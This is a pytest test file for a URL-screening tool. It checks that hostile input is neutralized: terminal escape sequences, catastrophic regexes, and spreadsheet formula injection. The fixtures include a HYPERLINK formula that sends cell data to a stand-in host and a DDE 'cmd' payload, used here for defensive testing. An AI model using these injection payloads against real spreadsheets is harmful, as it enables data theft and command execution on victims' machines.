    # Not a benchmark: a generous bound that only catches a hang (an expanding alias bomb or a
    # backtracking regex would take minutes).
    assert time.monotonic() - start < 5
    assert str(info.value).startswith(expected), str(info.value)
    if case == "deep-block-nesting":
        assert str(info.value).endswith("nesting deeper than 64 levels")
    assert isinstance(info.value, DataError) and info.value.location is not None

    assert main(["rules", "check", str(path)]) == 1
    out = capsys.readouterr().out.strip().splitlines()
    assert out == [str(info.value)]
    assert not (tmp_path / "pwned.txt").exists() and not Path("pwned.txt").exists()


def test_messages_never_carry_terminal_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A hostile pack or file name cannot drive the terminal through an error message."""
    pack = tmp_path / "esc.yaml"
    pack.write_text(
        'version: 1\nname: t\ntiers: {high: 1}\n"\\e[31mRED\\e]0;title\\a": 1\n'
        'rules:\n  - id: r\n    description: d\n    score: 1\n    when: {"ho\\e[2Jst": x}\n'
    )
    assert main(["rules", "check", str(pack)]) == 1
    out = capsys.readouterr().out
    assert out.splitlines() == [
        f"{pack}:4:1: unknown top-level key '\\x1b[31mRED\\x1b]0;title\\x07'",
        f"{pack}:9:12: unknown field 'ho\\x1b[2Jst'; did you mean 'host'?",
    ]
    src = tmp_path / "in\x1b[2J\u202e.csv"
    src.write_bytes(b"url\nexample.org\n")
    code, _, err = _screen(capsys, src, "--url-column", "link")
    assert code == 1
    assert "\x1b" not in err and "\u202e" not in err
    assert _one_error(err).startswith(f"{tmp_path}/in\\x1b[2J\\u202e.csv: column 'link' not found")


def test_catastrophic_regexes_screen_long_urls_in_linear_time(tmp_path: Path) -> None:
    pack = load_rule_pack(HOSTILE / "evil_regex.yaml")
    screener = Screener(rules=pack)
    for n in (20, 60_000):
        url = "https://example.com/" + "a" * n + "!"
        start = time.monotonic()
        result = screener.screen_url(url)
        assert time.monotonic() - start < 5  # only catches a hang; re would take minutes here
        assert result.score == 0 and result.error is None
    hit = screener.screen_url("https://example.com/" + "a" * 60_000)
    assert [r.rule_id for r in hit.reasons] == ["nested-plus", "alternation"]
    # Through the CLI, with a URL near the length limit.
    src = tmp_path / "in.csv"
    src.write_text("url\nhttps://example.com/" + "a" * 60_000 + "!\nhttps://a.example/aaab!\n")
    assert main(["screen", str(src), "--rules", str(HOSTILE / "evil_regex.yaml"),
                 "-o", str(tmp_path / "o.csv")]) == 0  # fmt: skip
    assert [r["ns_reasons"] for r in _dicts(tmp_path / "o.csv")] == ["", "polynomial (+3)"]


# ---- output safety ------------------------------------------------------------------------
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]


def _evil_input(tmp_path: Path) -> Path:
    src = tmp_path / "evil.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, quoting=csv.QUOTE_ALL)
        w.writerow(["url", "seller", '=HYPERLINK("http://evil.example")', "@note"])
        w.writerow([TAOBAO, "plain", "x", "y"])
        for i, value in enumerate(EVIL):
            # formulas in the URL column itself, the name column and the extra columns
            w.writerow([value if i % 2 else f"{value}.example.com", value, value, value])
    return src


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formulas_in_original_columns_and_names_are_neutralized(
    tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _evil_input(tmp_path)
    dst = tmp_path / f"out.{fmt}"
    code, _, err = _screen(capsys, src, "--name-column", "seller", out=dst)
    assert code == 0, err
    with dst.open(newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f, delimiter="," if fmt == "csv" else "\t"))
    assert header[:4] == ["url", "seller", '\'=HYPERLINK("http://evil.example")', "'@note"]
    assert len(rows) == len(EVIL) + 1
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (cell, row)
    assert [r[1] for r in rows] == ["plain", *("'" + v for v in EVIL)]
    assert (
        rows[0][len(header) - len(OUTPUT_COLUMNS) + OUTPUT_COLUMNS.index("ns_market_id")]
        == "taobao"
    )


def test_ns_columns_never_carry_input_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _evil_input(tmp_path)
    code, dst, err = _screen(capsys, src, "--name-column", "seller", "--no-neutralize")
    assert code == 0, err
    header, *rows = _rows(dst)
    start = len(header) - len(OUTPUT_COLUMNS)
    for row in rows:
        for cell in row[start:]:
            # ns_* text comes from the market data and the pack, never from the input row
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
            assert "evil" not in cell and "HYPERLINK" not in cell and "SUM" not in cell


@pytest.mark.parametrize("neutralize", [True, False])
def test_xlsx_cells_are_never_formulas(
    tmp_path: Path, neutralize: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    src = _evil_input(tmp_path)
    dst = tmp_path / "out.xlsx"
    extra = [] if neutralize else ["--no-neutralize"]
    code, _, err = _screen(capsys, src, "--name-column", "seller", *extra, out=dst)
    assert code == 0, err
    sheet = openpyxl.load_workbook(dst).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == (len(EVIL) + 2) * (4 + len(OUTPUT_COLUMNS))
    assert all(cell.data_type != "f" for cell in cells)
    names = [c.value for c in next(sheet.iter_rows(max_row=1))]
    sellers = [row[1].value for row in sheet.iter_rows(min_row=3)]
    if neutralize:
        assert names[2:4] == ['\'=HYPERLINK("http://evil.example")', "'@note"]
        assert sellers == ["'" + v.replace("\r", "\n") for v in EVIL]
    else:  # the text itself, stored as text
        assert names[2:4] == ['=HYPERLINK("http://evil.example")', "@note"]
        assert sellers == [v.replace("\r", "\n") for v in EVIL]


def test_xlsx_error_looking_text_stays_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    src = _write(tmp_path, "in.csv", b"url,note\nexample.org,#N/A\nexample.org,#REF!\n")
    dst = tmp_path / "out.xlsx"
    code, _, err = _screen(capsys, src, out=dst)
    assert code == 0, err
    sheet = openpyxl.load_workbook(dst).active
    notes = [(row[1].value, row[1].data_type) for row in sheet.iter_rows(min_row=2)]
    assert notes == [("#N/A", "s"), ("#REF!", "s")]


def test_output_onto_the_input_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b"url,note\nexample.org,=1+1\n")
    before = src.read_bytes()
    code, _, err = _screen(capsys, src, out=src)
    assert code == 1
    assert _one_error(err) == f"{src}: the output would overwrite the input; choose another -o"
    assert src.read_bytes() == before


def test_output_to_a_directory_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", b"url\nexample.org\n")
    code, _, err = _screen(capsys, src, out=tmp_path)
    assert code == 1
    assert _one_error(err) == f"{tmp_path}: is a directory; give the output a file name"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def _mknod_or_skip(path: Path, minor: int) -> None:
    import stat

    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
    except (PermissionError, AttributeError):
        pytest.skip("creating a device node needs root")


def test_output_to_a_device_writes_in_place_and_never_replaces_the_node(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """-o /dev/null as root must not turn /dev/null into a regular file (a private copy here)."""
    import stat

    src = _write(tmp_path, "in.csv", f"url\n{TAOBAO}\n".encode())
    null = tmp_path / "null"
    _mknod_or_skip(null, 3)
    code, _, err = _screen(capsys, src, "--summary", out=null)
    assert code == 0, err
    assert "rows screened: 1" in err
    assert stat.S_ISCHR(null.stat().st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]

    full = tmp_path / "full"  # like /dev/full: every write fails with ENOSPC
    _mknod_or_skip(full, 7)
    code, _, err = _screen(capsys, src, out=full)
    assert code == 1
    assert _one_error(err) == f"{full}: cannot write: No space left on device"
    assert stat.S_ISCHR(full.stat().st_mode)


def test_output_to_a_fifo(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import stat
    import threading

    src = _write(tmp_path, "in.csv", f"url\n{TAOBAO}\n".encode())
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    code, _, err = _screen(capsys, src, out=fifo)
    reader.join(timeout=30)
    assert code == 0, err
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert b"taobao" in received[0]


def test_output_through_a_symlink_replaces_the_file_and_keeps_its_mode(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _write(tmp_path, "in.csv", f"url\n{TAOBAO}\n".encode())
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(real.name)
    code, _, err = _screen(capsys, src, out=link)
    assert code == 0, err
    assert link.is_symlink() and _dicts(real)[0]["ns_market_id"] == "taobao"
    assert real.stat().st_mode & 0o777 == 0o640
    fresh = tmp_path / "fresh.csv"
    old_mask = os.umask(0o027)
    try:
        code, _, err = _screen(capsys, src, out=fresh)
    finally:
        os.umask(old_mask)
    assert code == 0, err
    assert fresh.stat().st_mode & 0o777 == 0o640  # the umask's, not mkstemp's 0600


# ---- interrupted runs ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def big_input(tmp_path_factory: pytest.TempPathFactory) -> Path:
    sys.path.insert(0, str(REPO / "benchmarks"))
    from generate import generate

    src = tmp_path_factory.mktemp("big") / "big.csv"
    with src.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["url", "seller_name"])
        for url, name in generate(300_000, seed=11, distinct_shops=150_000):
            w.writerow([url, name])
    return src


@pytest.mark.parametrize(
    ("sig", "code", "message", "previous"),
    [
        (signal.SIGINT, 130, "interrupted", True),
        (signal.SIGINT, 130, "interrupted", False),
        (signal.SIGTERM, 143, "terminated", True),
    ],
    ids=["sigint-replaces-a-file", "sigint-new-file", "sigterm"],
)
def test_signals_exit_cleanly_and_leave_nothing_partial(
    tmp_path: Path, big_input: Path, sig: int, code: int, message: str, previous: bool
) -> None:
    dst = tmp_path / "out.csv"
    if previous:
        dst.write_text("previous contents\n")
    # SIGINT and SIGTERM set to their defaults before exec: the CLI is tested as a terminal
    # starts it, whatever this process inherited (under `pytest &` SIGINT is ignored).
    launch = (
        "import os, signal, sys\n"
        "signal.signal(signal.SIGINT, signal.SIG_DFL)\n"
        "signal.signal(signal.SIGTERM, signal.SIG_DFL)\n"
        "os.execv(sys.executable, [sys.executable, *sys.argv[1:]])\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", launch, "-m", "notorious_screen", "screen", str(big_input),
         "-o", str(dst), "--chunksize", "5000", "--progress", "never"],
        cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    writing = False
    while time.monotonic() < deadline and proc.poll() is None:
        if any(p.name.endswith(".part") and p.stat().st_size > 0 for p in tmp_path.iterdir()):
            writing = True
            break
        time.sleep(0.05)
    assert writing, "the run ended before writing started; make the input bigger"
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == code, err
    assert err.strip().splitlines()[-1] == f"notorious-screen: {message}"
    assert "Traceback" not in err
    # no stray .part file, and the previous output (if any) untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == (["out.csv"] if previous else [])
    if previous:
        assert dst.read_text() == "previous contents\n"


def test_stdin_is_screened_like_a_file(
    monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    data = codecs.BOM_UTF8 + b"url,seller\r\n" + TAOBAO.encode() + b',\x00\r\n"a\nb",=x'
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    assert main(["screen", "-", "--progress", "never"]) == 0
    out = capsysbinary.readouterr().out.decode()
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [(r["url"], r["seller"]) for r in rows] == [(TAOBAO, "\x00"), ("a\nb", "'=x")]


# ---- hostile frames ------------------------------------------------------------------------
def test_frame_cells_screen_like_screen_url_whatever_their_type() -> None:
    import pandas as pd

    screener = Screener()
    cells = [b"taobao.com", b"", "\ud800x.com", "taobao.com\udcff", 3.5, True, None, math_nan()]
    names = ["\udcff淘宝网", b"Taobao", None, "x\ud800", "=1+1", 7, math_nan(), "Tao Bao"]
    df = pd.DataFrame(
        {"url": pd.Series(cells, dtype=object), "seller": pd.Series(names, dtype=object)}
    )
    out = screener.screen_frame(df, name_column="seller")
    for i, (url, name) in enumerate(zip(cells, names, strict=True)):
        want = screener.screen_url(url, name=name)
        got = out.iloc[i]
        assert got["ns_market_id"] == (want.market.id if want.market else None), (url, name)
        assert got["ns_error"] == (want.error.value if want.error else None), (url, name)
        assert got["ns_match"] == want.match.kind.value, (url, name)
    assert out["url"].tolist()[:6] == cells[:6]  # the originals stay as they were


def test_frame_with_a_repeated_url_column_is_an_input_error() -> None:
    import pandas as pd

    from notorious_screen.errors import InputError

    df = pd.DataFrame([["a.com", "taobao.com"]], columns=["url", "url"])
    with pytest.raises(InputError, match=r"^column 'url' appears 2 times$"):
        Screener().screen_frame(df)


def math_nan() -> float:
    return float("nan")


# ---- fuzz findings (fuzz/README.md) -----------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        ".com(\u043edot)?pp",  # the fuzzer's input: punycode exposes "(dot)" from "(оdot)"
        "shop(\u043edot)taobao.com",
        "taobao\uff5b.\uff5dcom",  # fullwidth braces: UTS #46 maps them to "{.}"
        "http://taobao\uff08dot\uff09com/",  # fullwidth parentheses: "(dot)"
    ],
)
def test_a_normalized_host_never_holds_a_defang_token(text: str) -> None:
    from notorious_screen.normalize import _REFANG_RE, normalize_host, normalize_url

    u = normalize_url(text)
    if u.host is None:
        return
    assert not _REFANG_RE.search(u.host), u.host
    again = normalize_host(u.host)
    assert (again.host, again.registrable_domain) == (u.host, u.registrable_domain)


@pytest.mark.parametrize(
    "target", ["normalize", "names", "rules", "files", "jsonl", "parquet", "xlsx"]
)
def test_fuzz_targets_pass_on_their_corpus(target: str) -> None:
    """The fuzz harness still runs, and every input it ever failed on (kept in its corpus)
    stays fixed. The long runs are `python fuzz/run.py --minutes N`."""
    sys.path.insert(0, str(REPO / "fuzz"))
    import targets

    targets.setup(catch_unraisable=False)
    inputs = sorted((REPO / "fuzz" / "corpus" / target).iterdir())
    assert inputs
    for path in inputs:
        targets.TARGETS[target](path.read_bytes())


@pytest.mark.parametrize(
    "text",
    [
        "\u00e4" * 60 + ".\u00e4" * 480,  # 1,020 code points; its punycode is ~3,900
        "http://" + ".".join(["\u0430\u0440" + "x" * 5] * 90) + "/",
    ],
    ids=["umlauts", "cyrillic"],
)
def test_the_host_length_bound_holds_for_the_ascii_form(text: str) -> None:
    """Fuzz finding: a host under MAX_HOST_LENGTH in Unicode but over it in punycode was
    accepted, and normalizing that host again said too_long."""
    from notorious_screen.normalize import MAX_HOST_LENGTH, normalize_host, normalize_url

    u = normalize_url(text)
    if u.host is None:
        assert u.error is ErrorCode.TOO_LONG
        return
    assert len(u.host) <= MAX_HOST_LENGTH
    assert normalize_host(u.host).host == u.host


@pytest.mark.parametrize("host", ["xn--xn--phracy-xl-2f6dx3b.com", "shop.xn--xn--a--gua.pt"])
def test_host_unicode_normalizes_back_to_the_host(host: str) -> None:
    """Fuzz finding: an A-label whose Unicode form itself starts with "xn--" (valid under the
    Unicode 15.0 UTS #46 the WPT data pins) was shown as that Unicode form, which no parser
    accepts back."""
    from notorious_screen.normalize import normalize_host, normalize_url

    u = normalize_url(host)
    assert u.host == host and u.host_unicode is not None
    assert normalize_host(u.host_unicode).host == u.host


def test_name_length_bound_holds_for_the_folded_form() -> None:
    """Fuzz finding: a 2,014-character name folded to 5,007 characters (casefolding İ gives two
    code points, and scripts get separated), so folding the folded name said too_long."""
    from notorious_screen.normalize import MAX_NAME_LENGTH, normalize_name

    name = "\u732b\u65d7\u8230" + "\u0130\u5e97" * 1000
    n = normalize_name(name)
    if n.error is None:
        assert len(n.folded) <= MAX_NAME_LENGTH
        assert normalize_name(n.folded).folded == n.folded
    else:
        assert n.error is ErrorCode.TOO_LONG


@pytest.mark.parametrize(
    "text",
    [
        "sa\u3002let{.\u00ad}q\u00e9obao.com",  # the fuzzer's input: "{." and "}" in two labels
        "let(\u00addot)q\u00e9.com",
        "shop(.)\u0430\u0440.com",
    ],
)
def test_the_unicode_form_holds_no_defang_token_either(text: str) -> None:
    """Fuzz finding: mapping removed a soft hyphen and left "{.}" across a label boundary in
    host_unicode (the ASCII host had "{.xn--}"), so host_unicode normalized elsewhere."""
    from notorious_screen.normalize import _REFANG_RE, normalize_host, normalize_url

    u = normalize_url(text)
    if u.host is None:
        return
    assert not _REFANG_RE.search(u.host) and not _REFANG_RE.search(u.host_unicode or "")
    assert normalize_host(u.host).host == u.host
    assert normalize_host(u.host_unicode).host == u.host


def test_rules_show_and_explain_print_no_terminal_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pack's descriptions and reason messages are its author's text: shown escaped."""
    pack = tmp_path / "esc.yaml"
    pack.write_text(
        'version: 1\nname: t\ndescription: "evil \\e]0;pwned\\a"\ntiers: {high: 1}\nrules:\n'
        '  - id: r\n    description: "\\e[2J clear"\n    score: 1\n    when: {listed: true}\n'
        '    message: "listed \\e[8mhidden\\e[0m \\u202egnp.exe"\n'
    )
    assert main(["rules", "show", str(pack)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "r     +1  \\x1b[2J clear" in out
    assert main(["explain", TAOBAO, "--rules", str(pack)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert "r: listed \\x1b[8mhidden\\x1b[0m \\u202egnp.exe" in out
